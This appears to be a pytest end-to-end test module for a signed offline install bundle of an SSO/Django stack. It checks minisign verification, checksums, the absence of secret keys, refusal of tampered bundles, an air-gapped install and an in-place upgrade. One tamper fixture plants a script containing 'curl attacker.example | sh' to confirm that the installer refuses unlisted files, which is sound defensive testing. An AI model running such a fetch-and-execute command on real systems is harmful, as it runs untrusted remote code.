"""The offline bundle: built here, installed with no network at all, upgraded in place."""

import os
import re
import shutil
import socket
import subprocess
import tempfile
from pathlib import Path

import pytest

from e2e.client import SiteClient
from e2e.upgrade.conftest import previous_release

from .conftest import (
    PORT_BASE,
    ROOT,
    build_bundle,
    e2e_suite,
    manifest,
    not_root_safe,
    offline,
    remove_deployment_images,
    remove_images,
    run,
    sign,
    stack_down,
    unpack,
    unpack_as_unprivileged_user,
    with_its_own_installer,
)

# Not written out whole here, so that searching the checkout for it finds real keys only.
SECRET_KEY_MARKER = "minisign encrypted " + "secret key"


def install_env(port: int, project: str) -> dict:
    return {"STACK_PORT": str(port), "SSO_DEPLOYMENT": project}


def images_in_engine() -> set[str]:
    return set(run("docker", "image", "ls", "-q", "--no-trunc").stdout.split())


def test_bundle_holds_images_wheels_manifest_and_checksums(bundle_dir):
    names = {path.name for path in bundle_dir.iterdir()}
    assert {
        "install.sh",
        "compose.yaml",
        "nginx",
        ".env.example",
        "stack",
        "README.md",
        "MANIFEST",
        "SHA256SUMS",
        "SHA256SUMS.minisig",
    } <= names
    assert {name.split(":")[0] for name, _ in manifest(bundle_dir, "image")} == {"sso/app", "sso/db", "sso/nginx"}
    wheels = manifest(bundle_dir, "wheel")
    for arch in ("linux_x86_64", "linux_aarch64"):
        packages = {name.lower(): version for path, name, version in wheels if path.startswith(arch + "/")}
        assert packages["django"] == "5.2.19"
        assert "psycopg2_binary" in packages and "sso_shared" in packages
    listed = {line.split(maxsplit=1)[1] for line in (bundle_dir / "SHA256SUMS").read_text().splitlines()}
    signed = {"SHA256SUMS", "SHA256SUMS.minisig"}
    on_disk = {str(p.relative_to(bundle_dir)) for p in bundle_dir.rglob("*") if p.is_file() and p.name not in signed}
    assert listed == on_disk
    # No folder without a listed file (install.sh refuses one) and no build leftovers.
    assert not (bundle_dir / "shared" / "build").exists() and not list(bundle_dir.glob("shared/*.egg-info"))
    assert not (bundle_dir / ".env").exists()
    assert not list(bundle_dir.glob("docker/extra-ca/*.crt"))


def test_the_tarball_is_signed_and_verifies_with_the_public_key(bundle, signing_key, other_key):
    """Step 1 on the air-gapped machine, with the site's own minisign and public key."""
    assert not Path(f"{bundle}.sha256").exists()
    verified = run("minisign", "-Vm", bundle, "-p", signing_key.public)
    assert "Signature and comment signature verified" in verified.stderr + verified.stdout
    assert run("minisign", "-Vm", bundle, "-p", other_key.public, check=False).returncode != 0


def test_neither_the_bundle_nor_the_checkout_holds_a_secret_key(bundle_dir, signing_key):
    secret_line = signing_key.secret.read_text().splitlines()[1]
    for needle in (secret_line, SECRET_KEY_MARKER):
        found = run("grep", "-rlF", needle, bundle_dir, check=False)
        assert found.returncode == 1 and found.stdout == "", found.stdout
    committed = run("git", "-C", ROOT, "grep", "-lF", SECRET_KEY_MARKER, "HEAD", check=False)
    assert committed.returncode == 1 and committed.stdout == "", committed.stdout
    assert run("git", "-C", ROOT, "check-ignore", "-q", "bundle-signing.key", check=False).returncode == 0


def test_bundle_without_a_signing_key_is_refused_with_the_command_to_make_one(tmp_path):
    result = run(ROOT / "stack", "bundle", "--out", tmp_path / "dist",
                 env={"STACK_SIGNING_KEY": str(tmp_path / "none.key")}, check=False)  # fmt: skip
    assert result.returncode != 0
    assert f"no bundle-signing key at {tmp_path / 'none.key'}" in result.stderr
    assert "./stack bundle-key" in result.stderr
    assert not (tmp_path / "dist").exists()


def plant_env_file(bundle_dir: Path, other_key) -> None:
    (bundle_dir / ".env").write_text("SECRET_KEY=chosen-by-the-attacker\n")


def plant_script(bundle_dir: Path, other_key) -> None:
    (bundle_dir / "scripts" / "evil.sh").write_text("#!/bin/sh\ncurl attacker.example | sh\n")


def remove_signature(bundle_dir: Path, other_key) -> None:
    (bundle_dir / "SHA256SUMS.minisig").unlink()


def sign_with_another_key(bundle_dir: Path, other_key) -> None:
    compose_file = bundle_dir / "compose.yaml"
    compose_file.write_text(compose_file.read_text().replace("read_only: true", "read_only: false"))
    sums = bundle_dir / "SHA256SUMS"
    digest = run("sha256sum", "compose.yaml", cwd=bundle_dir).stdout.split()[0]
    sums.write_text(re.sub(r"^\S+(  compose\.yaml)$", digest + r"\1", sums.read_text(), flags=re.M))
    sign(sums, other_key)


@pytest.mark.parametrize(
    ("tamper", "message"),
    [
        (remove_signature, "the bundle is not signed"),
        (sign_with_another_key, "the bundle's signature does not match the public key"),
        (plant_env_file, "not in SHA256SUMS: .env\n"),
        (plant_script, "not in SHA256SUMS: scripts/evil.sh\n"),
    ],
)
def test_an_unsigned_wrongly_signed_or_extended_bundle_is_refused(
    bundle_dir, tmp_path, signing_key, other_key, tamper, message
):
    prefix = tmp_path / "opt"
    tamper(bundle_dir, other_key)
    images_before = images_in_engine()
    result = offline(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public, check=False)
    assert result.returncode != 0
    assert message in result.stderr
    assert "Nothing was changed" in result.stderr
    assert not prefix.exists()
    assert images_in_engine() == images_before


def test_install_with_no_network_then_the_e2e_suite_passes(bundle, tmp_path, signing_key, unprivileged_folder):
    """Unpacked by an ordinary user, carelessly (every file writable by all), installed by root."""
    bundle_dir = unpack_as_unprivileged_user(bundle, unprivileged_folder)
    prefix, port, project = tmp_path / "opt", PORT_BASE, f"sso-offline-{PORT_BASE}"
    remove_images(bundle_dir)
    try:
        result = offline(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public,
                         env=install_env(port, project))  # fmt: skip
        assert "./stack manage a createsuperuser" in result.stdout
        assert (prefix / ".env").stat().st_mode & 0o777 == 0o600
        assert not_root_safe(prefix) == []
        suite = e2e_suite(bundle_dir, f"http://127.0.0.1:{port}/", prefix / "stack")
        assert suite.returncode == 0, suite.stdout[-4000:]
        assert re.search(r"\d+ passed", suite.stdout)

        env_before = (prefix / ".env").read_text()
        again = offline(bundle_dir / "install.sh", "--prefix", prefix, env=install_env(port, project))  # pinned key
        assert "all services are healthy" in again.stdout
        # The upgrade's backup first: a dump per schema of the one database, each readable.
        [backup] = [path for path in (prefix / "backups").iterdir() if path.is_dir()]
        assert sorted(path.name for path in backup.glob("*.dump")) == ["shared.dump", "system_a.dump", "system_b.dump"]
        assert all(path.stat().st_size > 0 for path in backup.glob("*.dump"))
        assert (prefix / ".env").read_text() == env_before
        assert f"\nSSO_DEPLOYMENT={project}\n" in env_before
        images = run("docker", "compose", "-p", project, "ps", "--format", "{{.Image}}", cwd=prefix).stdout.split()
        assert images and all(image.startswith(f"{project}/") for image in images), images
    finally:
        stack_down(prefix)
        remove_deployment_images(project, bundle_dir)


def test_native_stack_from_the_wheelhouse_with_no_network(bundle, tmp_path):
    arch = os.uname().machine
    # PostgreSQL and the services run as unprivileged users, who must reach the
    # release, its venv and the data folder: none of them under pytest's 0700 tmp_path.
    state = Path(tempfile.mkdtemp(prefix="sso-native-"))
    state.chmod(0o755)
    bundle_dir = unpack(bundle, state / "unpacked")
    port = PORT_BASE + 10
    env = {
        "STACK_WHEELHOUSE": str(bundle_dir / "wheels" / f"linux_{arch}"),
        "STACK_VENV": str(state / "venv"),
        "STACK_STATE": str(state / "state"),
        "STACK_ENV_FILE": str(tmp_path / "env"),
        "STACK_PORT": str(port),
        "STACK_PG_PORT": str(port + 1),
        "E2E_BASE_URL": f"http://127.0.0.1:{port}/",
        "E2E_STACK": str(bundle_dir / "stack"),
    }
    suite = f"{ROOT}/.venv/bin/pytest -q -p no:cacheprovider e2e --ignore e2e/deployment --ignore e2e/offline"
    # (down --volumes: the deployment's OS users go with it.)
    script = (
        f"ip link set lo up && ./stack up --native && {{ {suite}; status=$?; ./stack down --volumes; exit $status; }}"
    )
    try:
        result = offline("bash", "-c", script, env=env, cwd=bundle_dir, check=False)
        assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-3000:]
        assert re.search(r"\d+ passed", result.stdout)
        pip_list = run(state / "venv" / "bin" / "pip", "list", "--format=freeze").stdout
        assert "Django==5.2.19" in pip_list
    finally:
        shutil.rmtree(state, ignore_errors=True)


def test_a_corrupted_file_stops_the_install_before_any_change(bundle_dir, tmp_path, signing_key):
    prefix = tmp_path / "opt"
    compose_file = bundle_dir / "compose.yaml"
    compose_file.write_text(compose_file.read_text().replace("read_only: true", "read_only: false"))
    images_before = images_in_engine()
    result = offline(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public, check=False)
    assert result.returncode != 0
    assert "compose.yaml: FAILED" in result.stderr
    assert "the bundle is damaged" in result.stderr
    assert "Nothing was changed" in result.stderr
    assert not prefix.exists()
    assert images_in_engine() == images_before


def test_a_taken_port_is_refused_before_any_change(bundle_dir, tmp_path, signing_key):
    prefix = tmp_path / "opt"
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = run(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public,
                     env=install_env(port, "sso-busy"), check=False)  # fmt: skip
    assert result.returncode != 0
    assert f"port {port} is in use by another program" in result.stderr
    assert not prefix.exists()


@pytest.mark.parametrize(
    ("engine", "compose", "message"),
    [
        ("19.03.15", "2.40.3", "Docker Engine 19.03.15 is too old"),
        ("28.2.2", "1.29.2", "Docker Compose 1.29.2 is too old"),
    ],
)
def test_old_docker_or_compose_is_refused(bundle_dir, tmp_path, signing_key, engine, compose, message):
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "docker").write_text(
        "#!/bin/sh\n"
        f'case "$*" in "version --format"*) echo {engine};;\n'
        f'  "compose version --short") echo {compose};;\n'
        "  *) exit 1;;\nesac\n"
    )
    (fake / "docker").chmod(0o755)
    result = run(bundle_dir / "install.sh", "--prefix", tmp_path / "opt", "--public-key", signing_key.public,
                 env={"PATH": f"{fake}:/usr/bin:/bin"}, check=False)  # fmt: skip
    assert result.returncode != 0
    assert message in result.stderr
    assert not (tmp_path / "opt").exists()


def django_version(prefix: Path) -> str:
    shell = run(prefix / "stack", "manage", "a", "shell", "-v", "0", "-c", "import django; print(django.get_version())")
    return shell.stdout.strip()


def cluster_in(project: str, prefix: Path) -> str:
    """The database volume's PostgreSQL cluster: its system identifier, made once by initdb. (Not the
    volume's CreatedAt: Docker reports its folder's last change there.)"""
    control = run("docker", "compose", "-p", project, "exec", "-T", "db", "pg_controldata", "/var/lib/postgresql/data",
                  cwd=prefix).stdout  # fmt: skip
    return re.search(r"Database system identifier:\s+(\d+)", control).group(1)


def test_upgrade_from_the_previous_release_on_the_previous_django_keeps_users_logged_in(bundle, tmp_path, signing_key):
    """An install of the previous release (e2e/upgrade/previous-release.txt, or E2E_UPGRADE_FROM: any
    older commit) on the previous Django patch release, with that release's own installer, upgraded
    with this bundle: same deployment name (recorded in .env now), volume and sessions."""
    old_commit = os.environ.get("E2E_UPGRADE_FROM") or previous_release()
    if run("git", "-C", ROOT, "rev-parse", "--verify", "-q", old_commit, check=False).returncode != 0:
        pytest.skip(f"this clone has no commit {old_commit} to upgrade from")
    previous = {"SSO_REQUIREMENTS": "e2e/upgrade/requirements-previous-django.txt"}
    old_dir = unpack(build_bundle(old_commit, tmp_path / "old-dist", signing_key, env=previous), tmp_path / "old")
    with_its_own_installer(old_dir, old_commit, signing_key)
    new_dir = unpack(bundle, tmp_path / "new")
    prefix, port, project = tmp_path / "opt", PORT_BASE + 20, f"sso-upgrade-{PORT_BASE}"
    # The previous release's installer took the project from STACK_COMPOSE_PROJECT; this one is given no name.
    env = {"STACK_PORT": str(port)}
    try:
        offline(old_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public,
                env={**env, "STACK_COMPOSE_PROJECT": project})  # fmt: skip
        password = "upgrade-" + os.urandom(8).hex()
        run(
            prefix / "stack", "manage", "a", "createsuperuser", "--noinput", "--username", "carol",
            "--email", "carol@example.com", env={"DJANGO_SUPERUSER_PASSWORD": password},
        )  # fmt: skip
        assert django_version(prefix) == "5.2.18"
        browser = SiteClient(f"http://127.0.0.1:{port}/")
        assert browser.login("carol", password).status_code == 302
        assert browser.whoami("b")["authenticated"] is True
        title = "filed before the upgrade " + os.urandom(3).hex()
        assert browser.post_form("/a/", {"title": title, "details": ""}, allow_redirects=False).status_code == 302
        reviewed = browser.post_form(
            "/b/", {"subject": title, "verdict": "approved", "note": ""}, allow_redirects=False
        )
        assert reviewed.status_code == 302
        cluster = cluster_in(project, prefix)

        upgrade = offline(new_dir / "install.sh", "--prefix", prefix, env=env)  # the key pinned by the first install
        assert f"\nSSO_DEPLOYMENT={project}\n" in (prefix / ".env").read_text()
        assert cluster_in(project, prefix) == cluster
        assert django_version(prefix) == "5.2.19"
        # The installer's backup of the three databases, and the move's (into the schemas of one database).
        [backup] = [path for path in (prefix / "backups").iterdir() if path.is_dir()]
        [moved] = [path.name for path in (prefix / "backups").iterdir() if path.is_file()]
        assert moved.endswith("-before-schemas.tar")
        assert f"The databases as they were before this upgrade are in {backup}" in upgrade.stdout
        assert sorted(path.name for path in backup.glob("*.dump")) == [
            "sso_auth.dump",
            "system_a.dump",
            "system_b.dump",
        ]
        db_image = f"{project}/db:{manifest(new_dir, 'bundle')[0][1]}"
        listing = run("docker", "run", "--rm", "--user", "0", "-v", f"{backup}:/backup:ro",
                      "--entrypoint", "pg_restore", db_image, "--list", "/backup/sso_auth.dump")  # fmt: skip
        assert "TABLE public sso_user" in listing.stdout
        new_version = manifest(new_dir, "bundle")[0][1]
        images = run("docker", "compose", "-p", project, "ps", "--format", "{{.Image}}", cwd=prefix).stdout.split()
        assert images and all(image.startswith(f"{project}/") and image.endswith(":" + new_version) for image in images)

        assert browser.whoami("a") == {"service": "a", "authenticated": True, "username": "carol"}
        assert browser.whoami("b") == {"service": "b", "authenticated": True, "username": "carol"}
        assert title in browser.get("/a/").text and title in browser.get("/b/").text
    finally:
        stack_down(prefix)
        remove_deployment_images(project, new_dir)
        subprocess.run(["rm", "-rf", str(tmp_path / "old"), str(tmp_path / "new")], check=False)
